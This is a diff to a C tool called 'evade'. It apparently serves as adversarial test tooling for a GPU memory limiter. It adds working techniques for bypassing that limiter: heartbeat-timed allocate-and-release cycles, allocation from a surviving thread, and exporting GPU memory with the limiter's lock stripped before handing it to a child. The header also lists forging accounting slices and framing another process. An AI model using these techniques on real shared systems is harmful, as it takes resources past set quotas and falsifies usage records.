@@ -6,6 +6,12 @@
  *   evade dlmopen GIB FILE LIB      calls from a library in a namespace of its own
  *   evade newer GIB FILE LIB        as plain, once it has looked up a function that is newer than the limiter in that library
  *   evade copy GIB FILE CUDA        finds the functions of a copy of the driver in that file's own symbol table
+ *   evade leader GIB FILE CUDA      as copy, in a thread that outlives the first one
+ *   evade flicker GIB FILE CUDA HOLD PAUSE blind|beat
+ *                                   as copy, and gives all back after HOLD ms, again and again: PAUSE ms after it did, or
+ *                                   after the next heartbeat that the daemon then writes into its slice
+ *   evade hoard GIB FILE            exports physical memory, takes the limiter's mark off the descriptor, has a child import it
+ *                                   and not map it, and releases its own handle
  *   evade forge GIB FILE            is charged, and then wipes out whatever looks like an amount of memory in its slice
  *   evade raise GIB FILE            writes a limit of its own into its slice before each allocation, until it has all it wants
  *   evade frame GIB PID             is charged, writes PID's process into its own place in its slice, and is gone
@@ -17,12 +23,14 @@
 #include <elf.h>
 #include <fcntl.h>
 #include <link.h>
+#include <pthread.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -173,6 +181,100 @@ static int raise_and_hold(const struct cuda *cuda, unsigned gib)
     return result;
 }
 
+/* The heartbeat lies at byte 136 of `control`. Ends when the file is there. */
+static int flicker(void *driver, const struct cuda *cuda, unsigned gib, char **words)
+{
+    enum { HEARTBEAT = 136 / 8 };
+    size_t count;
+    int (*reset)(int) = must(in_table(driver, "cuDevicePrimaryCtxReset_v2"), "cuDevicePrimaryCtxReset_v2");
+    useconds_t hold_for = (useconds_t)atoi(words[5]) * 1000, pause_for = (useconds_t)atoi(words[6]) * 1000;
+    uint64_t *control = strcmp(words[7], "beat") == 0 ? mapped("control", &count) : NULL;
+    int result = 0;
+    while (!result && access(words[3], F_OK) != 0) {
+        if (control)
+            for (uint64_t beat = control[HEARTBEAT]; __atomic_load_n(&control[HEARTBEAT], __ATOMIC_SEQ_CST) == beat;)
+                usleep(1000);
+        usleep(pause_for);
+        result = hold(cuda, gib);
+        usleep(hold_for);
+        if (!result)
+            result = reset(0);
+    }
+    return result;
+}
+
+/* As in cuda.h. */
+struct location {
+    int type, id;
+};
+struct properties {
+    int type, handle_types;
+    struct location location;
+    void *win32;
+    uint64_t flags;
+};
+
+/* Passes a descriptor on with one byte; -1 sends none. Receives one where `descriptor` is null. */
+static int pass(int socket, const int *descriptor)
+{
+    char byte = 0;
+    union {
+        struct cmsghdr header;
+        char bytes[CMSG_SPACE(sizeof(int))];
+    } control = {0};
+    struct iovec data = {&byte, 1};
+    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
+    if (!descriptor) {
+        int received = -1;
+        if (recvmsg(socket, &message, 0) > 0 && CMSG_FIRSTHDR(&message))
+            memcpy(&received, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof received);
+        return received;
+    }
+    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
+    *header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
+    memcpy(CMSG_DATA(header), descriptor, sizeof *descriptor);
+    return sendmsg(socket, &message, 0) == 1 ? 0 : -1;
+}
+
+/* Ends with the driver's first error, or with all that is wanted. */
+static int hoard(void *driver, const struct cuda *cuda, unsigned gib)
+{
+    int (*create)(uint64_t *, size_t, const struct properties *, uint64_t) = must(dlsym(driver, "cuMemCreate"), "cuMemCreate");
+    int (*release)(uint64_t) = must(dlsym(driver, "cuMemRelease"), "cuMemRelease");
+    int (*export)(int *, uint64_t, int, uint64_t) = must(dlsym(driver, "cuMemExportToShareableHandle"), "export");
+    int (*import)(uint64_t *, void *, int) = must(dlsym(driver, "cuMemImportFromShareableHandle"), "import");
+    int sockets[2], descriptor, result;
+    uint64_t handle;
+    socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sockets);
+    if (fork() == 0) {
+        close(sockets[0]);
+        result = hold(cuda, 0);
+        while ((descriptor = pass(sockets[1], NULL)) >= 0) {
+            if (!result)
+                result = import(&handle, (void *)(intptr_t)descriptor, 1);
+            close(descriptor);
+            if (write(sockets[1], &result, sizeof result) < 0)
+                break;
+        }
+        exit(0);
+    }
+    close(sockets[1]);
+    result = hold(cuda, 0);
+    struct properties properties = {.type = 1, .handle_types = 1, .location = {1, 0}};
+    struct flock all = {.l_type = F_UNLCK, .l_whence = SEEK_SET};
+    for (unsigned step = 0; !result && step < gib * 4; step++) {
+        if ((result = create(&handle, STEP, &properties, 0)) != 0)
+            break;
+        result = export(&descriptor, handle, 1, 0);
+        if (!result && (fcntl(descriptor, F_OFD_SETLK, &all) != 0 || pass(sockets[0], &descriptor) != 0 ||
+                        read(sockets[0], &result, sizeof result) < 0))
+            perror("hoard");
+        close(descriptor);
+        release(handle);
+    }
+    return result;
+}
+
 static uint64_t start_time(int pid)
 {
     char path[64], line[1024] = "";
@@ -214,15 +316,13 @@ static void wait_for(const char *file)
         usleep(10000);
 }
 
-int main(int count, char **words)
+/* Ends the process. */
+static void *evade(void *arguments)
 {
-    if (count < 4) {
-        fprintf(stderr, "usage: evade WAY GIB FILE [LIB]\n");
-        return 2;
-    }
+    char **words = arguments;
     const char *way = words[1];
     unsigned gib = (unsigned)atoi(words[2]);
-    const char *library = count > 4 ? words[4] : "libcuda.so.1";
+    const char *library = words[4] ? words[4] : "libcuda.so.1";
     int result;
     if (strcmp(way, "newer") == 0) {
         void *newer = must(dlopen(library, RTLD_NOW | RTLD_LOCAL), library);
@@ -234,9 +334,15 @@ int main(int count, char **words)
     } else if (strcmp(way, "dlmopen") == 0) {
         result = by_library(dlmopen(LM_ID_NEWLM, library, RTLD_NOW), gib);
     } else {
+        int is_copy = strcmp(way, "copy") == 0 || strcmp(way, "leader") == 0 || strcmp(way, "flicker") == 0;
         void *driver = must(dlopen(library, RTLD_NOW | RTLD_LOCAL), library);
-        struct cuda cuda = all(driver, strcmp(way, "copy") == 0 ? in_table : dlsym);
-        result = strcmp(way, "raise") == 0 ? raise_and_hold(&cuda, gib) : hold(&cuda, gib);
+        struct cuda cuda = all(driver, is_copy ? in_table : dlsym);
+        if (strcmp(way, "flicker") == 0)
+            result = flicker(driver, &cuda, gib, words);
+        else if (strcmp(way, "hoard") == 0)
+            result = hoard(driver, &cuda, gib);
+        else
+            result = strcmp(way, "raise") == 0 ? raise_and_hold(&cuda, gib) : hold(&cuda, gib);
     }
     if (strcmp(way, "forge") == 0)
         wipe_amounts();
@@ -247,7 +353,23 @@ int main(int count, char **words)
     if (strcmp(way, "frame") == 0)
         raise(SIGKILL);
     wait_for(words[3]);
-    return 0;
+    exit(0);
+}
+
+int main(int count, char **words)
+{
+    if (count < 4) {
+        fprintf(stderr, "usage: evade WAY GIB FILE [LIB]\n");
+        return 2;
+    }
+    pthread_t thread;
+    if (strcmp(words[1], "leader") != 0)
+        evade(words);
+    if (pthread_create(&thread, NULL, evade, words) != 0) {
+        perror("pthread_create");
+        return 1;
+    }
+    pthread_exit(NULL);
 }
 
 #endif
